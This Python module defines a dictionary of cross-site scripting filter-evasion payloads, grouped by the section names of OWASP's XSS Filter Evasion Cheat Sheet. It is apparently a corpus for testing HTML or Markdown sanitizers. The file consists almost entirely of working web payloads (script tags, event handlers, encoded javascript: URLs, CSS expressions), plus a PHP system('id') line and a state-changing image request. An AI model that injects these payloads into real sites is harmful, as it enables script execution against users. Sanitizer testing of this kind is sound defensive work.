"""Techniques: every way past a filter that OWASP's cheat sheet tells of, each as a text of our own.

The sheet, read section by section: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
Its own texts are not here; the techniques are, by the names of its sections.
"""

from collections.abc import Mapping

TECHNIQUES: Mapping[str, tuple[str, ...]] = {
    "basic": ("<SCRIPT SRC=https://www.example.org/x.js></SCRIPT>",),
    "polyglot": (
        "javascript:/*--></title></style></textarea></script><svg onload='/*`*/alert(2)//'>",
        "'\"></style></script><img src=x onerror=alert(2)><!--",
    ),
    "malformed-a": (
        '<a onmouseover="alert(2)">x</a>',
        "<a onmouseover=alert(2)>x</a>",
        '\\<a onfocus="alert(2)"\\>x\\</a\\>',
    ),
    "malformed-img": ('<IMG """><SCRIPT>alert(2)</SCRIPT>">', "<IMG '''><SCRIPT>alert(2)</SCRIPT>'>"),
    "from-char-code": (
        "<IMG SRC=x onerror=alert(String.fromCharCode(50))>",
        "<IMG SRC=javascript:alert(String.fromCharCode(50))>",
    ),
    "default-src": (
        "<IMG SRC=# onmouseover=alert(2)>",
        "<IMG SRC= onmouseover=alert(2)>",
        "<IMG onmouseover=alert(2)>",
    ),
    "on-error": ('<IMG SRC=/ onerror="alert(2)"></img>',),
    "encoded-handler": ("<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116(2)>",),
    "decimal-references": ("<IMG SRC=&#106;avascript:alert(2)>", "<a href=&#106;&#97;vascript:alert(2)>x</a>"),
    "decimal-without-semicolons": ("<a href=&#0000106&#0000097vascript:alert(2)>x</a>",),
    "hexadecimal-without-semicolons": ("<a href=&#x6A&#x61&#x76ascript:alert(2)>x</a>",),
    "embedded-tab": ("<a href='jav\tascript:alert(2)'>x</a>", "[x](jav\tascript:alert(2))"),
    "embedded-encoded-tab": ("<a href='jav&#x09;ascript:alert(2)'>x</a>", "[x](jav&#x09;ascript:alert(2))"),
    "embedded-newline": ("<a href='jav&#x0A;ascript:alert(2)'>x</a>", "[x](jav&#10;ascript:alert(2))"),
    "embedded-return": ("<a href='jav&#x0D;ascript:alert(2)'>x</a>", "[x](jav&#13;ascript:alert(2))"),
    "null": ("<IMG SRC=java\0script:alert(2)>", "<SCR\0IPT>alert(2)</SCR\0IPT>", "[x](java%00script:alert(2))"),
    "spaces-before": ("<a href=' &#14;  javascript:alert(2)'>x</a>", "[x](&#1;javascript:alert(2))"),
    "non-alpha-non-digit": (
        "<SCRIPT/XSS SRC=https://www.example.org/x.js></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(2)>",
        "<SCRIPT/SRC=https://www.example.org/x.js></SCRIPT>",
    ),
    "extra-brackets": ("<<SCRIPT>alert(2);//\\<</SCRIPT>", "<<<img src=x onerror=alert(2)>"),
    "no-closing-script": ("<SCRIPT SRC=https://www.example.org/x.js?< B >", "<SCRIPT>alert(2)//"),
    "protocol-resolution-in-script": ("<SCRIPT SRC=//www.example.org/.j>",),
    "half-open": ('<IMG SRC="javascript:alert(2)"', "<img src=x onerror=alert(2) "),
    "double-open": ("<iframe src=https://www.example.org/x.html <",),
    "escaped-escapes": ('\\";alert(2);//', "\\'-alert(2)//", "</script><script>alert(2);</script>"),
    "end-title": ("</TITLE><SCRIPT>alert(2);</SCRIPT>",),
    "input-image": ('<INPUT TYPE="IMAGE" SRC="javascript:alert(2);">', "<INPUT TYPE=image SRC=x onerror=alert(2)>"),
    "body-image": ('<BODY BACKGROUND="javascript:alert(2)">',),
    "img-dynsrc": ('<IMG DYNSRC="javascript:alert(2)">', '<IMG LOWSRC="javascript:alert(2)">'),
    "list-style-image": ("<STYLE>li {list-style-image: url(javascript:alert(2));}</STYLE><UL><LI>x</br>",),
    "vbscript": ("<IMG SRC='vbscript:msgbox(2)'>", "<a href='vbscript:msgbox(2)'>x</a>"),
    "livescript": ("<a href='livescript:alert(2)'>x</a>", "[x](livescript:alert(2))"),
    "svg-object": ("<svg/onload=alert(2)>", "<svg/onload=alert`2`>"),
    "template-literal": ("Set.constructor`alert\\x282\\x29```",),
    "body": ("<BODY ONLOAD=alert(2)>", "<BODY ONLOAD =alert(2)>", "<BODY onpageshow=alert(2)>"),
    "handlers": tuple(
        f"<div tabindex=1 {name}=alert(2) style=x>x</div>"
        for name in (
            *("onanimationstart", "onauxclick", "onbeforetoggle", "onblur", "onclick", "oncontextmenu", "oncopy"),
            *("ondragstart", "onfocus", "onfocusin", "onkeydown", "onload", "onmouseenter", "onpaste", "onpointerover"),
            *("onscroll", "onselectstart", "onsubmit", "ontransitionend", "onwheel", "seekSegmentTime", "FSCommand"),
        )
    ),
    "bgsound": ('<BGSOUND SRC="javascript:alert(2);">',),
    "br-and-layers": ('<BR SIZE="&{alert(2)}">', '<LAYER SRC="https://www.example.org/x.html"></LAYER>'),
    "style-sheet": (
        '<LINK REL="stylesheet" HREF="javascript:alert(2);">',
        '<LINK REL="stylesheet" HREF="https://www.example.org/x.css">',
        "<STYLE>@import'https://www.example.org/x.css';</STYLE>",
        '<META HTTP-EQUIV="Link" Content="<https://www.example.org/x.css>; REL=stylesheet">',
    ),
    "style-binding": ("<STYLE>BODY{-moz-binding:url(https://www.example.org/x.xml#x)}</STYLE>",),
    "style-broken-up": (
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(2)';</STYLE>",
        "<p style='x:expr/**/ession(alert(2))'>x</p>",
    ),
    "style-expression": ("<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*x*/pression(alert(2))'>x</A>",),
    "style-of-script": ('<STYLE TYPE="text/javascript">alert(2);</STYLE>',),
    "style-background": (
        '<STYLE>.X{background-image:url("javascript:alert(2)");}</STYLE><A CLASS=X>x</A>',
        '<STYLE type="text/css">BODY{background:url("javascript:alert(2)")}</STYLE>',
    ),
    "anonymous-element": (
        '<XSS STYLE="xss:expression(alert(2))">x',
        '<XSS STYLE="behavior: url(x.htc);">x',
        "<x onclick=alert(2)>x",
    ),
    "us-ascii": ("\u00bcscript\u00bealert(\u00a22\u00a2)\u00bc/script\u00be",),
    "meta": (
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(2);">',
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg==">',
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(2);">',
    ),
    "iframe": ('<IFRAME SRC="javascript:alert(2);"></IFRAME>', "<IFRAME SRC=# onmouseover=alert(2)></IFRAME>"),
    "frame": ('<FRAMESET><FRAME SRC="javascript:alert(2);"></FRAMESET>', "<FRAMESET onload=alert(2)>"),
    "table": ('<TABLE BACKGROUND="javascript:alert(2)">', '<TABLE><TD BACKGROUND="javascript:alert(2)">'),
    "div": (
        '<DIV STYLE="background-image: url(javascript:alert(2))">x',
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073'\\0029\">x",
        '<DIV STYLE="background-image: url(&#1;javascript:alert(2))">x',
        '<DIV STYLE="width: expression(alert(2));">x',
    ),
    "downlevel-hidden": (
        "<!--[if gte IE 4]>\n<SCRIPT>alert(2);</SCRIPT>\n<![endif]-->",
        "<!--><img src=x onerror=alert(2)>-->",
    ),
    "base": ('<BASE HREF="javascript:alert(2);//">', "<BASE HREF=https://www.example.org/>"),
    "object": (
        '<OBJECT TYPE="text/x-scriptlet" DATA="https://www.example.org/x.html"></OBJECT>',
        "<OBJECT classid=clsid:0><param name=url value=javascript:alert(2)></OBJECT>",
        "<APPLET CODE=x></APPLET>",
    ),
    "embed": (
        '<EMBED SRC="https://www.example.org/x.swf" AllowScriptAccess="always"></EMBED>',
        '<EMBED SRC="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(2)/>" type="image/svg+xml">',
    ),
    "flash": ('a="get";b="URL(";c="javascript:";d="alert(2);)";eval(a+b+c+d);',),
    "xml-island": (
        '<XML ID="i"><B><IMG SRC="javas<!-- -->cript:alert(2)"></B></XML><SPAN DATASRC="#i" DATAFLD="B">x</SPAN>',
        '<XML SRC="x.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
    ),
    "html-time": (
        '<HTML><BODY><?import namespace="t"><t:set attributeName="innerHTML" to="<SCRIPT DEFER>alert(2)</SCRIPT>">',
    ),
    "renamed-script": ("<SCRIPT SRC=https://www.example.org/x.jpg></SCRIPT>",),
    "server-side-include": ("<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#include file='x'-->",),
    "php": ("<? echo('<SCR)'; echo('IPT>alert(2)</SCRIPT>'); ?>", "<?php system('id'); ?>"),
    "img-command": ("<IMG SRC=https://www.example.org/delete?user=1>", "![x](https://www.example.org/delete?user=1)"),
    "cookie": ('<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(2)</SCRIPT>">',),
    "utf-7": (
        '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-alert(2)+ADw-/SCRIPT+AD4-',
    ),
    "quote-encapsulation": (
        '<SCRIPT a=">" SRC=https://www.example.org/x.js></SCRIPT>',
        '<SCRIPT =">" SRC=https://www.example.org/x.js></SCRIPT>',
        "<SCRIPT a=\">\" '' SRC=https://www.example.org/x.js></SCRIPT>",
        "<SCRIPT \"a='>'\" SRC=https://www.example.org/x.js></SCRIPT>",
        "<SCRIPT a=`>` SRC=https://www.example.org/x.js></SCRIPT>",
        '<SCRIPT a=">\'>" SRC=https://www.example.org/x.js></SCRIPT>',
        '<SCRIPT>document.write("<SCRI");</SCRIPT>PT>alert(2)</SCRIPT>',
    ),
    "url-evasion": (
        "[x](http://192.0.2.1/)",
        "[x](http://%65%78%61%6d%70%6c%65.org/)",
        "[x](http://3221225985/)",
        "[x](http://0xC0.0x0000000.0x2.0x1/)",
        "[x](http://0300.0000.0002.00000001/)",
        "[x](h\ntt\tp://www.example.org/)",
        "[x](\\\\\\\\www.example.org)",
        "[x](http://www.example.org./)",
        "[x](javascript:document.location='https://www.example.org/')",
    ),
    "base64": ("<img src=x onerror=eval(atob('YWxlcnQoMik='))>",),
    "character-escapes": (
        "\\u003cimg src=x onerror=alert(2)\\u003e",
        "%3Cscript%3Ealert(2)%3C/script%3E",
        "&LT;script&GT;alert(2)&LT;/script&GT;",
    ),
    "odd-elements": (
        "<svg><a xlink:href=javascript:alert(2)><text x=9 y=9>x</text></a></svg>",
        "<math href=javascript:alert(2)>x</math>",
        "<isindex action=javascript:alert(2) type=image>",
        "<video poster=javascript:alert(2)></video>",
        "<x contenteditable onblur=alert(2)>x</x>",
        "<dialog open onclose=alert(2)>x</dialog>",
        "<input type=hidden oncontentvisibilityautostatechange=alert(2) style=content-visibility:auto>",
        "<a ping=https://www.example.org/ href=https://www.example.org/>x</a>",
        "<details ontoggle=alert(2) open>",
        "<portal src=javascript:alert(2)>",
    ),
}
"""By the technique."""
